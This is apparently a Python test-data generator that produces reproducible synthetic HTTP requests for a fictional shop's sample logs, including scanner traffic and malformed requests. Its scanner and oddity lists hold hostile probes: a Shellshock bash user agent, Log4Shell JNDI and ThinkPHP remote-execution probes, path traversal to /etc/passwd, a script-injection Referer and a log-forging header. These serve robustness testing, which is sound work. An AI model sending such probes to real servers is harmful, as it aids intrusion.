"""The traffic that the sample logs hold: shoppers, an API's clients, bots, scanners, and broken bytes.

`traffic(seed, count)` is the same requests every time. Most are drawn from `VISITORS`, by weight; each of the
`ODDITIES` comes a few times, at random places.
"""

from __future__ import annotations

import random
import uuid
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field, replace

HOST = "shop.example"
LAST_PRODUCT = 500


@dataclass(frozen=True)
class Request:
    """One request, as bytes that go over the wire unchanged, so that nothing is too broken to be sent."""

    target: bytes = b"/"
    method: bytes = b"GET"
    headers: Mapping[str, str] | Mapping[str, str | bytes] = field(default_factory=dict)
    body: bytes = b""
    version: bytes = b"HTTP/1.1"
    client: str = ""
    """The visitor's address; from the ranges that are set aside for documentation."""

    raw: bytes | None = None
    """Bytes to be sent in place of everything above."""

    patience_s: float | None = None
    """The visitor hangs up after so long; None waits for the answer."""

    def wire(self, **more: str) -> bytes:
        """The request's bytes; `more` headers are added, `x_request_id="r1"` as `x-request-id: r1`."""
        if self.raw is not None:
            return self.raw
        headers: dict[str, str | bytes] = {"Host": HOST, "Connection": "close", **self.headers}
        headers |= {name.replace("_", "-"): value for name, value in more.items()}
        if self.body or self.method in (b"POST", b"PUT", b"PATCH"):
            headers["Content-Length"] = str(len(self.body))
        lines = [self.method + b" " + self.target + b" " + self.version]
        for name, value in headers.items():
            lines.append(name.encode() + b": " + (value if isinstance(value, bytes) else value.encode()))
        return b"\r\n".join([*lines, b"", self.body])


def traffic(seed: int, count: int) -> list[Request]:
    """`count` requests, the same for the same seed."""
    dice = random.Random(seed)
    requests = [visit(dice) for _ in range(count - 3 * len(ODDITIES))]
    for oddity in ODDITIES * 3:
        requests.insert(dice.randrange(len(requests) + 1), replace(oddity, client=address(dice)))
    return requests


def visit(dice: random.Random) -> Request:
    """Some request of some visitor."""
    visitors, weights = zip(*VISITORS, strict=True)
    visitor: Visitor = dice.choices(visitors, weights)[0]
    return replace(visitor(dice), client=address(dice))


def address(dice: random.Random) -> str:
    """A visitor's address; a few come very often."""
    net = dice.choice(["192.0.2", "198.51.100", "203.0.113"])
    return f"{net}.{1 + min(int(dice.expovariate(1 / 40)), 253)}"


# --- who asks for what ----------------------------------------------------------------------------------

Visitor = Callable[[random.Random], Request]

CHROME = "AppleWebKit/537.36 (KHTML, like Gecko)"
SAFARI = "AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1"
BROWSERS = [
    f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) {CHROME} Chrome/131.0.0.0 Safari/537.36",
    f"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) {SAFARI} Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
    f"Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) {SAFARI} Mobile/15E148 Safari/604.1",
]
BOTS = [
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
]
CLIENTS = ["python-requests/2.32.3", "okhttp/4.12.0", 'ShopApp/5.4.1 (iOS 18.1; "iPhone 15")']
SCANNERS = ["Mozilla/5.0 zgrab/0.x", "-", "Go-http-client/1.1", '() { :; }; /bin/bash -c "id\\n"']

PAGES = ["/", "/", "/", "/about/", "/about", "/news/", "/news/page/2", "/news/page/1", "/static/shop.css"]
DOCS = ["returns", "shipping/eu", "shipping/us/ak", "gr%C3%B6%C3%9Fen", "a%2Fb", "my%20data", "x//y"]
WORDS = ["lamp", "red+shoes", "caf%C3%A9", "%22vinyl%22", "100%25+cotton", "", "o'neill", "%F0%9F%8E%81"]
USERS = ["ann", "bob", "j%C3%BCrgen", "li.wei", "o'hara", "%FFbroken", "ann%2Bshop@example.org", "zoe%20k"]
SKUS = ["AB-1234-0", "QZ-0007-7", "MM-9999-6", "AB-1234-1", "XX-0000-0"]
COUPONS = ["WELCOME", "SUMMER24", "STAFF", "FREE", "welcome"]
MARKETS = ["de", "us", "fr", "jp", "su"]
PROBES = [
    "/.env", "/.git/config", "/wp-login.php", "/wp-admin/setup-config.php", "/xmlrpc.php",
    "/phpmyadmin/index.php", "/phpmyadmin/scripts/setup.php", "/cgi-bin/luci/;stok=/locale?form=country",
    "/actuator/health", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/api/v1/pods",
    "/boaform/admin/formLogin",
    "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array",
    "/static/../../etc/passwd", "/?x=${jndi:ldap://192.0.2.66/a}", "/admin/config.php", "/login.action",
    "/server-status", "//xmlrpc.php",
]  # fmt: skip


def product_id(dice: random.Random) -> int:
    """A product; few are popular, and some ids are past the last one."""
    return 1 + int(LAST_PRODUCT * 1.02 * dice.random() ** 3)


def order_id(dice: random.Random) -> str:
    """Some order; three in four are asked for only once."""
    number = dice.getrandbits(128) if dice.random() < 0.75 else dice.randrange(20)
    return str(uuid.UUID(int=number, version=4))


def browser(dice: random.Random) -> Request:
    """A person who looks around."""
    headers = {"User-Agent": dice.choice(BROWSERS)}
    if dice.random() < 0.6:
        headers["Referer"] = dice.choice(
            ["https://shop.example/", "https://www.google.com/", 'https://shop.example/?q="a"']
        )
    target = dice.choice(
        [
            dice.choice(PAGES),
            f"/search?q={dice.choice(WORDS)}&page={dice.randrange(1, 9)}",
            f"/docs/{dice.choice(DOCS)}",
            f"/shop/{product_id(dice)}",
        ]
    )
    return Request(target.encode(), headers=headers)


def reader(dice: random.Random) -> Request:
    """The shop's own front end, reading from its API."""
    target = dice.choice(
        [
            f"/api/products/{product_id(dice)}",
            f"/api/products/{product_id(dice)}?fields=price,stock&_={dice.getrandbits(32)}",
            f"/api/products/{product_id(dice)}/reviews",
            f"/api/products/{product_id(dice)}/reviews/{dice.randrange(0, 6)}",
            f"/api/products/?page={dice.randrange(1, 26)}",
            f"/api/products/{dice.choice(['books', 'games', 'music', 'garden'])}/",
            f"/api/products/under/{dice.choice(['9.99', '20.0', '5', '100.00'])}",
            f"/api/products/sku/{dice.choice(SKUS)}",
            f"/api/orders/{order_id(dice)}",
            f"/api/orders/{order_id(dice)}/items/{dice.randrange(1, 9)}",
            f"/api/users/{dice.choice(USERS)}",
            f"/api/coupons/{dice.choice(COUPONS)}",
            f"/api/markets/{dice.choice(MARKETS)}/offers",
        ]
    )
    return Request(target.encode(), headers={"User-Agent": dice.choice(BROWSERS + CLIENTS)})


def writer(dice: random.Random) -> Request:
    """A client that changes something."""
    method, target = dice.choice(
        [
            ("POST", "/api/orders/"),
            ("POST", "/api/orders/"),
            ("POST", "/api/products/"),
            ("POST", "/api/products"),
            ("PUT", f"/api/products/{product_id(dice)}"),
            ("PATCH", f"/api/products/{product_id(dice)}"),
            ("DELETE", f"/api/products/{product_id(dice)}"),
            ("PUT", f"/api/users/{dice.choice(USERS)}/cart/{product_id(dice)}"),
            ("DELETE", f"/api/users/{dice.choice(USERS)}/cart/{product_id(dice)}"),
            ("POST", f"/api/orders/{order_id(dice)}/refund"),
            ("DELETE", f"/api/orders/{order_id(dice)}"),
            ("OPTIONS", "/api/orders/"),
            ("POST", f"/api/users/{dice.choice(USERS)}"),
            ("DELETE", "/api/products/"),
        ]
    )
    body = b"" if method in ("DELETE", "OPTIONS") else b'{"quantity": 1}'
    return Request(target.encode(), method.encode(), {"User-Agent": dice.choice(CLIENTS)}, body)


def staff(dice: random.Random) -> Request:
    """Someone of the office; one in five has not logged in."""
    month = f"20{dice.randrange(22, 26)}-{dice.randrange(1, 13):02}"
    target = dice.choice(["/admin/", "/admin", f"/admin/reports/{month}", "/api/orders/export.csv"])
    headers = {"User-Agent": BROWSERS[2]}
    if dice.random() < 0.8:
        headers["Authorization"] = "Bearer staff"
    return Request(target.encode(), headers=headers)


def bot(dice: random.Random) -> Request:
    """A search engine; it checks some pages with HEAD."""
    target = dice.choice([*PAGES, "/robots.txt", "/sitemap.xml", "/favicon.ico", f"/shop/{product_id(dice)}"])
    method = b"HEAD" if dice.random() < 0.3 else b"GET"
    return Request(target.encode(), method, {"User-Agent": dice.choice(BOTS)})


def scanner(dice: random.Random) -> Request:
    """Someone who looks for other people's mistakes."""
    method = dice.choice([b"GET", b"GET", b"GET", b"POST", b"HEAD"])
    return Request(dice.choice(PROBES).encode(), method, {"User-Agent": dice.choice(SCANNERS)})


def probe(_dice: random.Random) -> Request:
    """The load balancer's health check."""
    return Request(b"/health", headers={"User-Agent": "kube-probe/1.31"})


VISITORS: list[tuple[Visitor, int]] = [
    (reader, 48),
    (browser, 18),
    (writer, 12),
    (scanner, 8),
    (bot, 6),
    (probe, 5),
    (staff, 3),
]

# --- what no client library would send ------------------------------------------------------------------

IMPATIENT = {"Authorization": "Bearer staff", "User-Agent": BROWSERS[0]}

ODDITIES = [
    # Not HTTP: a TLS handshake, SSH, RDP, line ends alone, nothing but a blank.
    Request(raw=bytes.fromhex("16030100ca010000c60303") + bytes(range(32)) + b"\r\n\r\n"),
    Request(raw=b"SSH-2.0-OpenSSH_9.6\r\n"),
    Request(raw=b"\x03\x00\x00\x13\x0e\xe0\x00\x00\x00\x00\x00\x01\x00\x08\x00\x03\x00\x00\x00\r\n\r\n"),
    Request(raw=b"\r\n\r\n", patience_s=0.05),
    Request(raw=b"GET /health HTTP/1.1\r\nHost: shop", patience_s=0.05),
    Request(raw=b" \r\n\r\n"),
    # Other versions of HTTP than 1.1.
    Request(raw=b"GET /health\r\n\r\n"),
    Request(b"/health", version=b"HTTP/1.0"),
    Request(raw=b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
    Request(b"/health", version=b"HTTP/9.9"),
    # Headers that are too long, doubled, contradictory.
    Request(b"/health", headers={"X-Filler": "f" * 70_000}),
    Request(raw=b"GET /health HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n"),
    Request(b"/api/products/", b"POST", {"Transfer-Encoding": "chunked"}),
    # Targets that are too long, relative, absolute, or none of this.
    Request(b"/" + b"long/" * 900),
    Request(b"/" + b"long/" * 1800),
    Request(b"health"),
    Request(b"http://shop.example/health"),
    Request(b"http://elsewhere.example/api/users/ann?x=1"),
    Request(b"http://shop.example"),
    Request(b"shop.example:443", b"CONNECT"),
    Request(b"*", b"OPTIONS"),
    Request(b"/health#top"),
    # Paths that want care.
    Request("/api/users/jürgen".encode()),
    Request(b"/api/users/j\xfcrgen"),
    Request(b'/api/users/a"b\\c'),
    Request(b"/api/users/ann%2Fcart%2F7", b"PUT"),
    Request(b"/api/users/%FF%FE%3Fx%23y"),
    Request(b"/api/users/%zz"),
    Request(b"/api/users/a b"),
    Request(b"/api/users/a\x01b"),
    Request(b"/docs/../health"),
    Request(b"/docs/%2e%2e/%2e%2e/etc/passwd"),
    Request(b"//health"),
    Request(b"/api//products/7"),
    Request(b"/api/products/7/"),
    Request(b"/api/products/%D9%A3"),
    # Methods that nobody expects.
    Request(b"/health", b"get"),
    Request(b"/health", b"TRACE"),
    Request(b"/health", b"PROPFIND"),
    Request(b"/health", b"M_SEARCH"),
    # Words of others that end up in the log: quotes, backslashes, line noise, a user's name with a blank.
    Request(
        b"/",
        headers={
            "User-Agent": 'say "hi" \\ and \\"leave\\"',
            "Referer": 'http://x/"><script>alert(1)</script>',
        },
    ),
    Request(b"/", headers={"User-Agent": "ends in a backslash\\", "Referer": "\\"}),
    Request(b"/", headers={"User-Agent": b"bytes \xff\xfe and \xc3\xbc\ttab"}),
    Request(b"/", headers={"User-Agent": '" 200 0 "-" "-" 0.001', "Referer": "-"}),
    Request(b"/health", headers={"Authorization": "Basic YW5uIHNtaXRoOnNlY3JldA=="}),
    # People who do not wait: the slowest requests of all.
    Request(b"/admin/reports/2024-02", headers=IMPATIENT, patience_s=0.02),
    Request(b"/api/orders/export.csv", headers=IMPATIENT, patience_s=0.01),
]
